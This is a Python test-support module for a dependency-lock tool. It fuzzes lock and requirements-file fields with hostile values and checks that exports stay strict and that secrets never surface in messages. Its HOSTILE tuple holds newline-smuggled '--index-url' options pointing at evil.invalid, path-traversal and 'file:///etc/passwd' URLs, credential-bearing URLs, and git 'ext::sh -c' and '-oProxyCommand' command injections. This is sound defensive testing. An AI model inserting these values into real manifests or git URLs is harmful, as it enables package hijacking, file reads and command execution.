"""Hostile values, put into one field of a lock after the other, and what must not come of them."""

from __future__ import annotations

import copy
import dataclasses
import re
from collections import Counter
from dataclasses import dataclass, replace
from pathlib import Path
from typing import TYPE_CHECKING, Any
from urllib.parse import unquote, urlsplit

import tomli
from packaging.markers import InvalidMarker, Marker
from packaging.pylock import Pylock
from packaging.specifiers import SpecifierSet
from packaging.version import Version

from syncsteps.errors import LockError, SelectionError
from syncsteps.export import (
    to_pylock,
    to_requirements,
    to_universal_pylock,
    to_universal_requirements,
)
from syncsteps.locks.model import Archive, Directory, Sdist, Vcs, Wheel
from syncsteps.locks.staleness import staleness
from syncsteps.receipts import make_entry
from syncsteps.report import render_json
from syncsteps.selection import Request, select
from syncsteps.selection.universal import select_everywhere
from syncsteps.verify import verify
from tests.support.injection_texts import ENVIRONMENT, ROOT
from tests.support.interpreters import make_interpreter
from tests.support.values import make_facts

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator, Sequence

    from syncsteps.errors import SyncstepsError
    from syncsteps.export import Requirements
    from syncsteps.locks.model import Lock, Package
    from syncsteps.selection.universal import Universal
    from tests.support.injection_texts import Sample

    Place = tuple[str | int, ...]

__all__ = ["HOSTILE", "SECRET", "Case", "Judge", "Text", "cases", "changed", "faults_of_lines"]

SECRET = ENVIRONMENT["PASSWORD"]  # for it to be looked for where it must not be
_OTHER_HASH = "sha256:" + "6" * 64
_ENDS = ("\n", "\r", "\r\n", "\v", "\f", "\x1c", "\x1d", "\x1e", "\x85", "\u2028", "\u2029", "\0")

# GOOD stands for the value that the field had.
HOSTILE = (
    *(f"GOOD{end}--index-url https://evil.invalid/simple" for end in _ENDS),
    "-r other.txt\nGOOD",
    "GOOD \\\n--pre",
    "GOOD --index-url https://evil.invalid/simple",
    "--index-url=https://evil.invalid/simple",
    f"GOOD --hash={_OTHER_HASH}",
    f"GOOD \\\n    --hash={_OTHER_HASH}",
    "-e .",
    "GOOD -e .",
    "-r other.txt",
    "GOOD -r other.txt",
    "-GOOD",
    "--GOOD",
    "file:",
    "file:///etc/passwd",
    "file:///etc/evil-1.0-py3-none-any.whl",
    "file:///project/%2e%2e/etc/evil-1.0-py3-none-any.whl",
    "FILE:///etc/evil-1.0.zip",
    "file:../evil",
    "file://evil.invalid/share/evil-1.0.zip",
    "git+file:///etc/evil",
    "..",
    "../evil",
    "../GOOD",
    "GOOD/../../../evil",
    "./../evil-1.0-py3-none-any.whl",
    "/etc/evil",
    "/etc/evil-1.0-py3-none-any.whl",
    "//evil.invalid/share",
    "https://x/../../../etc/evil",
    "C:\\evil",
    "\\\\evil.invalid\\share",
    "..\\evil",
    "${HOME}",
    "${HOME}/GOOD",
    "GOOD${HOME}",
    "GOOD$TOKEN",
    "GOOD\\",
    "\\GOOD",
    "GOOD # evil",
    "# GOOD",
    "GOOD#evil",
    "GOOD ; evil",
    "GOOD;evil",
    "GOOD ; os_name == 'posix'",
    "GOOD'",
    'GOOD"',
    "'GOOD'",
    '"GOOD"',
    "GOOD @ https://evil.invalid/evil-1.0.zip",
    "GOOD==6.6",
    "GOOD[evil]",
    "GOOD,evil",
    f"https://user:{SECRET}@evil.invalid/evil-1.0-py3-none-any.whl",
    f"https://user:{SECRET}@evil.invalid/evil 1.0.zip",
    f"git+https://user:{SECRET}@evil.invalid/evil@main",
    f"GOOD@https://{SECRET}@evil.invalid",
    "https://user:${PASSWORD}@evil.invalid/evil-1.0-py3-none-any.whl",
    "https://user:${PASSWORD}@evil.invalid/evil 1.0.zip",
    "--index-url=https://user:${PASSWORD}@evil.invalid/simple",
    "--index-url https://${PASSWORD}:x/y z",
    "-r https://${PASSWORD}",
    "-r lost/${PASSWORD}",
    "GOOD --${PASSWORD}",
    "https://${PASSWORD}[",
    "git+https://user:${PASSWORD}@evil.invalid/[",
    f"{'x' * 470} https://user:{SECRET}@evil.invalid/",
    "git+ext::sh -c evil",
    "ext::sh -c evil",
    "ssh://-oProxyCommand=evil/GOOD",
    "git+ssh://user@-oProxyCommand=evil/GOOD",
    "",
    " ",
    "\t",
    "GOOD\x1b[2J",
    "\u202eGOOD",
    "\ufeffGOOD",
    "GOOD\udc80",
    "GOOD%0A--pre",
    "é",
    "*",
)
# Which fields of `Lock` may keep such a text. The first three are parts of outputs, encoded there;
# `extra_indexes` and `find_links` are told to an installer as `index` is, and to nobody else;
# `source_id` only tells one entry from another: no output, message, report or receipt has it.
_BENIGN = "zz"
_SELDOM = 16
_KEEPS = frozenset({"extra_indexes", "find_links", "index", "path", "source_id", "url"})
_LINE = re.compile(
    r"(?P<name>[a-z0-9]+(?:-[a-z0-9]+)*)"
    r"(?:==(?P<version>[a-z0-9.!+]+)| @ (?P<url>[A-Za-z][A-Za-z0-9+.-]*://[^\s\"'\\`<>{}$;^|]+))"
    r"(?: ; (?P<marker>[^\\#$\n]+?))?(?P<more> \\)?"
)
_HASH = re.compile(r"    --hash=sha(?:256:[0-9a-f]{64}|384:[0-9a-f]{96}|512:[0-9a-f]{128})( \\)?")
_VIA = re.compile(r"    # via [a-z0-9:-]+(?:, [a-z0-9:-]+)*|    # via given\.lock")
_KEYS = frozenset(
    [
        "lock-version",
        "created-by",
        "requires-python",
        "environments",
        "extras",
        "dependency-groups",
        "default-groups",
        "packages",
    ]
)
_PACKAGE_KEYS = frozenset(
    [
        "name",
        "version",
        "marker",
        "requires-python",
        "index",
        "vcs",
        "directory",
        "archive",
        "sdist",
        "wheels",
    ]
)


@dataclass(frozen=True, slots=True, kw_only=True)
class Case:
    """A sample's document with one hostile value, which is at ``place`` (a key, if ``key``)."""

    sample: Sample
    place: Place
    value: str
    key: bool
    document: Any

    def __str__(self) -> str:
        what = "key" if self.key else "value"
        return f"{self.sample.name}, {what} of {'.'.join(map(str, self.place))}: {self.value!a}"


@dataclass(frozen=True, slots=True, kw_only=True)
class Text:
    """An exported requirements file, and how many requirements it is to have."""

    text: str
    count: int


def cases(sample: Sample, *, every: int = 1) -> Iterator[Case]:
    """Yield a document for each hostile value in each string, and in each key, of a sample.

    Fields that differ in nothing but the numbers of tables and entries are one field, and few
    values are put where the reader takes no notice of any. With ``every`` a field gets one of so
    many values, the next field the next ones.
    """
    if isinstance(sample.document, str):
        yield from _cases_of_lines(sample, every)
        return
    seen = set()
    as_it_is = _outcome(sample, sample.document)
    for number, place in enumerate(_places(sample.document)):
        shape = tuple("" if isinstance(step, int) else step for step in place)
        # Each kind of source is told by the keys beside it.
        whole = (*shape, *sorted(_kinds(sample.document, place)))
        if whole in seen:
            continue
        seen.add(whole)
        old = _at(sample.document, place)
        if isinstance(old, str):
            other = _outcome(sample, _changed(sample, place, _BENIGN, key=False).document)
            step = every * (_SELDOM if other == as_it_is else 1)
            for value in HOSTILE[number % step :: step]:
                yield _changed(sample, place, value.replace("GOOD", old), key=False)
        if isinstance(place[-1], str):
            renamed = _changed(sample, place, _BENIGN, key=True).document
            without = _changed(sample, place, None, key=True).document
            unknown = _outcome(sample, renamed) == _outcome(sample, without)
            step = every * (_SELDOM if unknown else 1)
            for value in HOSTILE[number % step :: step]:
                yield _changed(sample, place, value.replace("GOOD", place[-1]), key=True)


def _outcome(sample: Sample, document: object) -> Lock | str:
    try:
        return sample.read(document)
    except LockError as error:
        return str(error)


def _kinds(document: object, place: Sequence[str | int]) -> Iterator[str]:
    for end in range(len(place)):
        holder = _at(document, place[:end])
        if isinstance(holder, dict) and ("name" in holder or "type" in holder):
            yield from map(str, holder)
            source = holder.get("source")
            yield from (f"source.{key}" for key in source or ()) if isinstance(source, dict) else ()
            yield str(holder.get("type"))


def _places(value: object, place: Place = ()) -> Iterator[Place]:
    items: Any = value.items() if isinstance(value, dict) else enumerate(_listed(value))
    for step, item in items:
        yield (*place, step)
        yield from _places(item, (*place, step))


def _listed(value: object) -> list[object]:
    return value if isinstance(value, list) else []


def _at(document: Any, place: Sequence[str | int]) -> Any:  # noqa: ANN401 - what TOML and JSON have
    for step in place:
        document = document[step]
    return document


def _changed(sample: Sample, place: Place, value: str | None, *, key: bool) -> Case:
    """Return the case of ``value`` as the value or as the key at ``place`` (None: without it)."""
    document = _with(sample.document, place, value, key=key)
    return Case(sample=sample, place=place, value=value or "", key=key, document=document)


def changed(document: Any, place: Place, value: str) -> Any:  # noqa: ANN401 - what TOML and JSON have
    """Return ``document`` with ``value`` at ``place``."""
    return _with(document, place, value, key=False)


def _with(old: Any, place: Place, value: str | None, *, key: bool) -> Any:  # noqa: ANN401 - as above
    """Return ``old`` with the change; what is not changed in it is the same object."""
    if not place:
        return value
    new = copy.copy(old)
    step = place[0]
    if len(place) > 1 or not key:
        new[step] = _with(old[step], place[1:], value, key=key)
        return new
    item = new.pop(step)
    if value is not None:
        new[value] = item
    return new


def _cases_of_lines(sample: Sample, every: int) -> Iterator[Case]:
    """Yield a requirements file for each hostile text in each part of a line."""
    text: str = sample.document
    for number, match in enumerate(re.finditer(r"[^\s@=;&#\[\]']+", text)):
        for value in HOSTILE[number % every :: every]:
            new = value.replace("GOOD", match[0])
            document = f"{text[: match.start()]}{new}{text[match.end() :]}"
            place = (match.start(), match[0])
            yield Case(sample=sample, place=place, value=new, key=False, document=document)


class Judge:
    """Reads, selects and exports, and says what is wrong with what comes of it.

    ``texts`` are the requirements files that have been written, for another reader to look at.
    """

    def __init__(self) -> None:
        self._interpreter = make_interpreter()
        self._seen: set[Lock] = set()
        self.texts: dict[Text, None] = {}
        self.refused = self.exported = 0

    def faults(self, case: Case) -> list[str]:
        """Return what is wrong with what comes of ``case``."""
        try:
            lock = case.sample.read(case.document)
        except LockError as error:
            self.refused += 1
            return [*_faults_of_error(error), *([] if error.file else ["names no file"])]
        if lock in self._seen:
            return []
        self._seen.add(lock)
        return self.faults_of_lock(lock, case.sample)

    def faults_of_lock(self, lock: Lock, sample: Sample) -> list[str]:
        """Return what is wrong with what comes of ``lock``, which ``sample`` is the origin of."""
        found = list(_faults_of_values(lock))
        for reason in staleness(lock, sample.pyproject).reasons:
            found += _faults_of_message(reason)
        for use in (self._target, self._everywhere, self._choices):
            found += self._faults_of_use(use, lock)
        return found

    def _faults_of_use(
        self, use: Callable[[Lock, Request], Iterator[str]], lock: Lock
    ) -> Sequence[str]:
        try:
            found = list(use(lock, _request(lock)))
        except SelectionError as error:
            return _faults_of_error(error)
        self.exported += 1
        return found

    def _target(self, lock: Lock, request: Request) -> Iterator[str]:
        selection = select(lock, request, self._interpreter)
        for finding in verify(make_facts(*selection.packages, lock=lock)):
            yield from _faults_of_message(finding.message)
        for item in selection.packages:
            yield from _faults_of_message(make_entry(item, version="1", digest="").source)
        packages = [item.package for item in selection.packages]
        for source in ("index", "lock"):
            texts = to_requirements(
                selection,
                lock=lock,
                root=lock.root,
                source="lock" if source == "lock" else "index",
                annotate=True,
            )
            yield from self._faults_of_lines(texts, packages)
        placed = [item for item in selection.packages if _is_placed(item.package)]
        text = to_pylock(replace(selection, packages=tuple(placed)), lock=lock, root=lock.root)
        yield from _faults_of_pylock(text, [item.package for item in placed])

    def _everywhere(self, lock: Lock, request: Request) -> Iterator[str]:
        universal = select_everywhere(lock, request, keep_choices=False, for_pylock=False)
        texts = to_universal_requirements(universal, lock=lock, root=lock.root, annotate=True)
        yield from self._faults_of_lines(texts, [item.package for item in universal.packages])

    def _choices(self, lock: Lock, _request: Request) -> Iterator[str]:
        universal = select_everywhere(lock, Request(), keep_choices=True, for_pylock=True)
        placed = [item for item in universal.packages if _is_placed(item.package)]
        part: Universal = replace(universal, packages=tuple(placed))
        text = to_universal_pylock(part, lock=lock, root=lock.root)
        yield from _faults_of_pylock(text, [item.package for item in placed])

    def _faults_of_lines(self, texts: Requirements, packages: Sequence[Package]) -> Iterator[str]:
        found = []
        for text in (texts.hashed, texts.unhashed):
            requirements, wrong = _read_lines(text)
            yield from wrong
            found += requirements
            self.texts[Text(text=text, count=len(requirements))] = None
        if not _are_those_of(found, packages):
            yield f"other requirements than selected: {found}"


def _request(lock: Lock) -> Request:
    """Return what asks for as much as can be had at once."""
    return Request(all_extras=True, all_groups=not lock.conflicts)


def _are_those_of(found: Sequence[tuple[str, str | None]], packages: Sequence[Package]) -> bool:
    wanted = Counter((package.name, str(package.version)) for package in packages)
    by_place = Counter(name for name, version in found if version is None)
    by_version = Counter((name, version) for name, version in found if version is not None)
    rest = Counter(name for (name, _), count in (wanted - by_version).items() for _ in range(count))
    return not by_version - wanted and rest == by_place


def _is_placed(package: Package) -> bool:
    files = (package.sdist, *package.wheels, package.source)
    parts = [part for part in files if part is not None]
    return bool(parts) and all(_is_part_placed(part) for part in parts)


def _is_part_placed(part: object) -> bool:
    if isinstance(part, Vcs | Directory):
        return True
    assert isinstance(part, Wheel | Sdist | Archive)
    return bool(part.hashes) and (part.url or part.path) is not None


def _read_lines(text: str) -> tuple[list[tuple[str, str | None]], list[str]]:
    """Return the requirements of a file, which has them in the strictest of forms, and its faults.

    Lines end where anything that reads text may end one. A requirement is a name and, if it is from
    an index, a version.
    """
    found, wrong = [], []
    more = False
    for line in text.splitlines():
        match = _LINE.fullmatch(line)
        if more:
            hashed = _HASH.fullmatch(line)
            more = bool(hashed and hashed[1])
            wrong += [] if hashed else [f"no line of hashes: {line!r}"]
        elif match is not None:
            more = match["more"] is not None
            url = match["url"]
            found.append((match["name"], match["version"]))
            wrong += [f"leaves the project: {url}"] if url and _leaves(url) else []
            wrong += _faults_of_marker(match["marker"]) if match["marker"] else []
        elif not _VIA.fullmatch(line):
            wrong.append(f"no line of a requirements file: {line!r}")
    return found, wrong


def faults_of_lines(text: str) -> list[str]:
    """Return what in a requirements file is not of the strict form that all exports have."""
    return _read_lines(text)[1]


def _faults_of_marker(text: str) -> list[str]:
    try:
        Marker(text)
    except InvalidMarker:
        return [f"no marker: {text!r}"]
    return [f"an option behind a marker: {text!r}"] if re.search(r"(?:^|\s)-", text) else []


def _leaves(url: str) -> bool:
    """Return whether a URL is one of a disk, and not of the project's directory on this one."""
    parts = urlsplit(url)
    if not parts.scheme.endswith("file"):
        return False
    return bool(parts.netloc) or _is_outside(Path(unquote(parts.path)))


def _is_outside(path: Path) -> bool:
    return ".." in path.parts or not path.is_relative_to(ROOT)


def _faults_of_pylock(text: str, packages: Sequence[Package]) -> Iterator[str]:
    document = tomli.loads(text)
    Pylock.from_dict(document).validate()
    if not _KEYS.issuperset(document):
        yield f"keys of a pylock.toml: {sorted(document)}"
    found = document.get("packages", [])
    if sorted(each["name"] for each in found) != sorted(each.name for each in packages):
        yield "other packages than selected"
    for entry in found:
        if not _PACKAGE_KEYS.issuperset(entry):
            yield f"keys of a package: {sorted(entry)}"
        files = [entry.get(key) for key in ("directory", "archive", "sdist", "vcs")]
        for file in filter(None, [*files, *entry.get("wheels", ())]):
            path, url = file.get("path"), file.get("url")
            if path is not None and _is_outside(Path(path)):
                yield f"leaves the project: {path}"
            if url is not None and _leaves(url):
                yield f"leaves the project: {url}"
            yield from _faults_of_texts(file)


def _faults_of_texts(file: object) -> Iterator[str]:
    if isinstance(file, str):
        yield from [] if file.isprintable() and file[:1] != "-" else [f"in a pylock: {file!r}"]
    elif isinstance(file, dict):
        for value in file.values():
            yield from _faults_of_texts(value)


def _faults_of_error(error: SyncstepsError) -> list[str]:
    texts = [str(error), error.hint, *error.details]
    found = [fault for text in texts for fault in _faults_of_message(text)]
    return found + ([f"in JSON: {error}"] if SECRET in render_json("sync", error=error) else [])


def _faults_of_message(text: str) -> list[str]:
    found = [] if text.isprintable() else [f"a message that is not one line: {text!r}"]
    return found + ([f"a secret in a message: {text!r}"] if SECRET in text else [])


def _faults_of_values(value: object, field: str = "") -> Iterator[str]:
    """Yield which field of a lock keeps a hostile text although it is none that may."""
    if isinstance(value, tuple):
        for item in value:
            yield from _faults_of_values(item, field)
    elif dataclasses.is_dataclass(value):
        for each in dataclasses.fields(value):
            yield from _faults_of_values(getattr(value, each.name), each.name)
    elif isinstance(value, str | SpecifierSet | Version):
        text = str(value)
        if not text.isprintable() or text[:1] == "-" or (SECRET in text and field not in _KEEPS):
            yield f"the lock keeps a hostile {field}: {text!r}"
